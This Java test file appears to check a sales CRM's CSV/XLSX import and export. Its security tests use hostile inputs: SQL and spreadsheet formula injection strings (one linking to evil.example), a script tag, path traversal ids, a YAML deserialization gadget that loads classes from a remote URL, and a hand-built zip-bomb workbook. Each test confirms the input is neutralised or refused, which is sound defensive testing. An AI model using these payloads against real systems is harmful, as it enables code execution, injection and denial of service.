package org.bidbench.sales.exchange;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.InputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;

import org.bidbench.sales.core.demo.DemoWorkspaceFactory;
import org.bidbench.sales.core.process.DefaultSalesProcess;
import org.bidbench.sales.model.Customer;
import org.bidbench.sales.model.Opportunity;
import org.bidbench.sales.model.OpportunityStatus;
import org.bidbench.sales.model.SalesFactory;
import org.bidbench.sales.model.SalesWorkspace;
import org.eclipse.emf.ecore.util.EcoreUtil;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.osgi.framework.FrameworkUtil;

class SalesImportTest {

	@TempDir
	Path folder;

	private static SalesWorkspace emptyWorkspace() {
		SalesWorkspace ws = SalesFactory.eINSTANCE.createSalesWorkspace();
		ws.setName("import test");
		ws.setCurrency("CNY");
		DefaultSalesProcess.installInto(ws);
		return ws;
	}

	/** A shipped example mapping or sample file, copied out of the bundle. */
	private Path shipped(String entry) throws Exception {
		try (InputStream in = FrameworkUtil.getBundle(SalesImport.class).getEntry("mappings/" + entry).openStream()) {
			Path target = folder.resolve(Path.of(entry).getFileName());
			Files.copy(in, target, java.nio.file.StandardCopyOption.REPLACE_EXISTING);
			return target;
		}
	}

	@Test
	void aSalesforceExportImportsThroughTheExampleMappings() throws Exception {
		SalesWorkspace ws = emptyWorkspace();
		ColumnMapping accounts = ColumnMapping.read(shipped("salesforce-accounts.yaml"), RecordKind.CUSTOMERS);
		SalesImport.Plan customers = SalesImport.plan(ws, RecordKind.CUSTOMERS, shipped("samples/salesforce-accounts.csv"), accounts);
		assertEquals(List.of(), customers.errors());
		assertEquals(4, customers.creates());
		assertTrue(ws.getCustomers().isEmpty(), "planning changes nothing");
		SalesImport.apply(ws, customers, false);
		assertEquals("Kestrel Airport Holdings, Terminal 2", ws.getCustomers().get(3).getName(), "a quoted comma");
		assertEquals("0015g00000XyZa3", ws.getCustomers().get(2).getId());

		ColumnMapping mapping = ColumnMapping.read(shipped("salesforce-opportunities.yaml"), RecordKind.OPPORTUNITIES);
		SalesImport.Plan plan = SalesImport.plan(ws, RecordKind.OPPORTUNITIES, shipped("samples/salesforce-opportunities.csv"), mapping);
		assertEquals(List.of(), plan.errors());
		assertEquals(5, plan.creates());
		SalesImport.apply(ws, plan, false);
		Opportunity depot = ws.getOpportunities().get(1);
		assertEquals("Line 9 depot BIM coordination", depot.getName());
		assertEquals("杭州地铁集团有限公司", depot.getCustomer().getName());
		assertEquals("Negotiation", depot.getStage().getName());
		assertEquals(new BigDecimal("3480000.00"), depot.getAmount().amount());
		assertEquals(80, depot.getProbability());
		assertEquals(LocalDate.of(2027, 1, 15), depot.getExpectedClose());
		assertEquals(OpportunityStatus.WON, ws.getOpportunities().get(2).getStatus());
		assertEquals(OpportunityStatus.LOST, ws.getOpportunities().get(4).getStatus());
		assertNull(ws.getOpportunities().get(3).getAmount(), "an empty amount stays unset");

		SalesImport.Plan again = SalesImport.plan(ws, RecordKind.OPPORTUNITIES, shipped("samples/salesforce-opportunities.csv"), mapping);
		assertEquals(5, again.matches(), "a second import matches by id instead of duplicating");
	}

	@Test
	void anOdooExportMatchesCustomersByNameAndReadsItsDateTimes() throws Exception {
		SalesWorkspace ws = emptyWorkspace();
		for (String name : List.of("Northbridge Rail Partners Ltd", "杭州地铁集团有限公司")) {
			Customer c = SalesFactory.eINSTANCE.createCustomer();
			c.setId("C" + ws.getCustomers().size());
			c.setName(name);
			ws.getCustomers().add(c);
		}
		ColumnMapping mapping = ColumnMapping.read(shipped("odoo-crm-opportunities.yaml"), RecordKind.OPPORTUNITIES);
		SalesImport.Plan plan = SalesImport.plan(ws, RecordKind.OPPORTUNITIES, shipped("samples/odoo-crm-opportunities.csv"), mapping);
		assertEquals(List.of(), plan.errors());
		SalesImport.apply(ws, plan, false);
		assertEquals(3, ws.getOpportunities().size());
		assertEquals("O0001", ws.getOpportunities().get(0).getId(), "ids are made where the file has none");
		assertEquals(java.time.Instant.parse("2026-10-05T00:00:00Z"), ws.getOpportunities().get(0).getCreatedAt());
		assertEquals("Quote", ws.getOpportunities().get(1).getStage().getName());
	}

	@Test
	void aFileWithABadRowImportsNothingUnlessTheGoodRowsAreAskedFor() throws Exception {
		SalesWorkspace ws = DemoWorkspaceFactory.create(DemoWorkspaceFactory.DEFAULT_SEED, LocalDate.parse("2026-10-15"));
		int before = ws.getOpportunities().size();
		String customer = ws.getCustomers().get(0).getName();
		Path file = folder.resolve("opportunities.csv");
		Files.writeString(file, """
				name,customer,stage,amount,probability,expectedClose
				Pump house,%1$s,Quote,100000,40,2027-01-31
				Valve chamber,%1$s,Quote,one hundred,40,2027-01-31
				Outfall,Nobody Ltd,Quote,5000,40,2027-01-31
				Screen house,%1$s,Tendering,5000,40,2027-01-31
				Sludge line,%1$s,Bid,5000,140,31.01.2027
				Control room,%1$s,Bid,75000,50,2027-02-28
				""".formatted(customer), StandardCharsets.UTF_8);
		SalesImport.Plan plan = SalesImport.plan(ws, RecordKind.OPPORTUNITIES, file, ColumnMapping.identity(RecordKind.OPPORTUNITIES));
		assertEquals(List.of(3, 4, 5, 6, 6), plan.errors().stream().map(SalesImport.RowError::row).toList(), String.valueOf(plan.errors()));
		assertTrue(plan.errors().get(0).toString().startsWith("row 3, column 'amount': amount 'one hundred' is not a number"),
				plan.errors().get(0).toString());
		assertTrue(plan.errors().get(1).toString().contains("no customer 'Nobody Ltd'"));
		assertTrue(plan.errors().get(2).toString().contains("no stage 'Tendering'") && plan.errors().get(2).toString().contains("Qualification"));
		assertThrows(IllegalStateException.class, () -> SalesImport.apply(ws, plan, false));
		assertEquals(before, ws.getOpportunities().size(), "nothing imported");

		int[] done = SalesImport.apply(ws, plan, true);
		assertEquals(2, done[0]);
		assertEquals(before + 2, ws.getOpportunities().size());
		assertEquals("Control room", ws.getOpportunities().get(before + 1).getName());
	}

	@Test
	void exportThenImportGivesTheSameRecords() throws Exception {
		SalesWorkspace ws = DemoWorkspaceFactory.create(DemoWorkspaceFactory.DEFAULT_SEED, LocalDate.parse("2026-10-15"));
		for (RecordKind kind : RecordKind.values()) {
			for (String format : List.of("csv", "xlsx")) {
				Path exported = folder.resolve(kind.word() + "." + format);
				int count = SalesExport.write(ws, kind, exported);
				assertTrue(count > 0);
				// Into a copy without the records of this kind: everything must come back as it was.
				SalesWorkspace copy = EcoreUtil.copy(ws);
				switch (kind) {
					case CUSTOMERS -> copy.getCustomers().forEach(c -> c.setName(c.getName() + " (old)"));
					case CONTACTS -> copy.getCustomers().forEach(c -> c.getContacts().clear());
					case OPPORTUNITIES -> copy.getOpportunities().clear();
				}
				SalesImport.Plan plan = SalesImport.plan(copy, kind, exported, ColumnMapping.identity(kind));
				assertEquals(List.of(), plan.errors(), kind + " " + format);
				SalesImport.apply(copy, plan, false);
				assertEquals(comparable(SalesExport.rows(ws, kind)), comparable(SalesExport.rows(copy, kind)), kind + " through " + format);
			}
		}
	}

	/** Amounts as numbers, not as scales: an XLSX cell keeps 880000 whether it was written 880000 or 880000.00. */
	private static List<java.util.Map<String, Object>> comparable(List<java.util.Map<String, Object>> rows) {
		return rows.stream().map(row -> {
			java.util.Map<String, Object> copy = new java.util.LinkedHashMap<>(row);
			copy.replaceAll((k, v) -> v instanceof BigDecimal n ? n.stripTrailingZeros().toPlainString() : v);
			return copy;
		}).toList();
	}

	@Test
	void hostileNamesStayTextAndIdsCannotEscapeTheWorkspace() throws Exception {
		SalesWorkspace ws = emptyWorkspace();
		Path file = folder.resolve("customers.csv");
		List<String> names = List.of("Robert'); DROP TABLE customers;--", "=HYPERLINK(\"http://evil.example\",\"click\")", "+1-555-0100 Ltd",
				"@SUM(A1:A9)", "<script>alert(1)</script>", "Quote \"\"special\"\", Ltd", "../../etc/passwd");
		StringBuilder csv = new StringBuilder("id,name\n");
		for (int i = 0; i < names.size(); i++) {
			csv.append("H").append(i).append(",\"").append(names.get(i).replace("\"", "\"\"")).append("\"\n");
		}
		csv.append("../../evil,Path Ltd\n");
		Files.writeString(file, csv, StandardCharsets.UTF_8);
		SalesImport.Plan plan = SalesImport.plan(ws, RecordKind.CUSTOMERS, file, ColumnMapping.identity(RecordKind.CUSTOMERS));
		assertEquals(1, plan.errors().size());
		assertTrue(plan.errors().get(0).toString().startsWith("row 9, column 'id': id '../../evil' may hold only"), plan.errors().toString());
		SalesImport.apply(ws, plan, true);
		assertEquals(names, ws.getCustomers().stream().map(Customer::getName).toList());

		Path exported = folder.resolve("out.csv");
		SalesExport.write(ws, RecordKind.CUSTOMERS, exported);
		String text = Files.readString(exported);
		assertTrue(text.contains("H1,\"'=HYPERLINK(") && text.contains("H3,'@SUM"), "formulas are defused for spreadsheet programs: " + text);
		SalesWorkspace back = emptyWorkspace();
		SalesImport.apply(back, SalesImport.plan(back, RecordKind.CUSTOMERS, exported, ColumnMapping.identity(RecordKind.CUSTOMERS)), false);
		assertEquals(SalesExport.rows(ws, RecordKind.CUSTOMERS), SalesExport.rows(back, RecordKind.CUSTOMERS));
	}

	@Test
	void aMappingIsCheckedAndNeverBuildsObjects() throws Exception {
		Path unknown = folder.resolve("unknown.yaml");
		Files.writeString(unknown, "columns:\n  name: Name\n  colour: Colour\n");
		ExchangeException e = assertThrows(ExchangeException.class, () -> ColumnMapping.read(unknown, RecordKind.CUSTOMERS));
		assertTrue(e.getMessage().startsWith(unknown.toString()) && e.getMessage().contains("'colour' is not a field"), e.getMessage());
		Path gadget = folder.resolve("gadget.yaml");
		Files.writeString(gadget, "columns: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil/\"]]]]\n");
		ExchangeException refused = assertThrows(ExchangeException.class, () -> ColumnMapping.read(gadget, RecordKind.CUSTOMERS));
		assertTrue(refused.getMessage().contains(gadget.toString()), refused.getMessage());
		Path wrongKind = folder.resolve("kind.yaml");
		Files.writeString(wrongKind, "kind: contacts\ncolumns:\n  name: Name\n");
		assertThrows(ExchangeException.class, () -> ColumnMapping.read(wrongKind, RecordKind.CUSTOMERS));
		Path missingColumn = folder.resolve("m.csv");
		Files.writeString(missingColumn, "Name,Town\nAcme,Ulm\n");
		ExchangeException noColumn = assertThrows(ExchangeException.class,
				() -> SalesImport.plan(emptyWorkspace(), RecordKind.CUSTOMERS, missingColumn, ColumnMapping.identity(RecordKind.CUSTOMERS)));
		assertTrue(noColumn.getMessage().contains("no column 'name'"), noColumn.getMessage());
	}

	@Test
	void aWorkbookThatUnpacksToFarMoreThanItsSizeIsRefusedWithAMessage() throws Exception {
		SalesWorkspace ws = DemoWorkspaceFactory.create(DemoWorkspaceFactory.DEFAULT_SEED, LocalDate.parse("2026-10-15"));
		Path honest = folder.resolve("customers.xlsx");
		SalesExport.write(ws, RecordKind.CUSTOMERS, honest);
		// The same workbook with 64 MiB of blanks inside its sheet: a few hundred kilobytes packed.
		Path bomb = folder.resolve("bomb.xlsx");
		try (java.util.zip.ZipFile in = new java.util.zip.ZipFile(honest.toFile());
				java.util.zip.ZipOutputStream out = new java.util.zip.ZipOutputStream(Files.newOutputStream(bomb))) {
			for (java.util.zip.ZipEntry entry : java.util.Collections.list(in.entries())) {
				byte[] content;
				try (InputStream entryIn = in.getInputStream(entry)) {
					content = entryIn.readAllBytes();
				}
				out.putNextEntry(new java.util.zip.ZipEntry(entry.getName()));
				if (entry.getName().equals("xl/worksheets/sheet1.xml")) {
					String xml = new String(content, StandardCharsets.UTF_8);
					int afterDeclaration = xml.indexOf("?>") + 2;
					out.write(xml.substring(0, afterDeclaration).getBytes(StandardCharsets.UTF_8));
					byte[] blanks = new byte[1 << 20];
					java.util.Arrays.fill(blanks, (byte) ' ');
					for (int i = 0; i < 64; i++) {
						out.write(blanks);
					}
					out.write(xml.substring(afterDeclaration).getBytes(StandardCharsets.UTF_8));
				} else {
					out.write(content);
				}
				out.closeEntry();
			}
		}
		assertTrue(Files.size(bomb) < 2 * 1024 * 1024, "the bomb is small: " + Files.size(bomb));
		SalesWorkspace copy = emptyWorkspace();
		ExchangeException refused = assertThrows(ExchangeException.class,
				() -> SalesImport.plan(copy, RecordKind.CUSTOMERS, bomb, ColumnMapping.identity(RecordKind.CUSTOMERS)));
		assertTrue(refused.getMessage().contains("bomb.xlsx") && refused.getMessage().contains("100 times"), refused.getMessage());
		assertEquals(0, copy.getCustomers().size(), "nothing imported");
		// The honest workbook still reads after the refusal (the limits do not stick in a bad state).
		SalesImport.Plan plan = SalesImport.plan(emptyWorkspace(), RecordKind.CUSTOMERS, honest, ColumnMapping.identity(RecordKind.CUSTOMERS));
		assertEquals(List.of(), plan.errors());
	}

	@Test
	void anExportGetsTheUsersUmaskNotATemporaryFilesPrivateMode() throws Exception {
		if (!folder.getFileSystem().supportedFileAttributeViews().contains("posix")) {
			return;
		}
		Path plain = folder.resolve("plain.txt");
		Files.writeString(plain, "made the ordinary way");
		for (String name : List.of("customers.csv", "customers.xlsx")) {
			Path exported = folder.resolve(name);
			SalesExport.write(DemoWorkspaceFactory.create(DemoWorkspaceFactory.DEFAULT_SEED, LocalDate.parse("2026-10-15")),
					RecordKind.CUSTOMERS, exported);
			assertEquals(Files.getPosixFilePermissions(plain), Files.getPosixFilePermissions(exported), name);
			try (var left = Files.list(folder)) {
				assertEquals(List.of(), left.map(p -> p.getFileName().toString()).filter(n -> n.endsWith(".part") || n.endsWith(".tmp")).toList());
			}
		}
	}
}
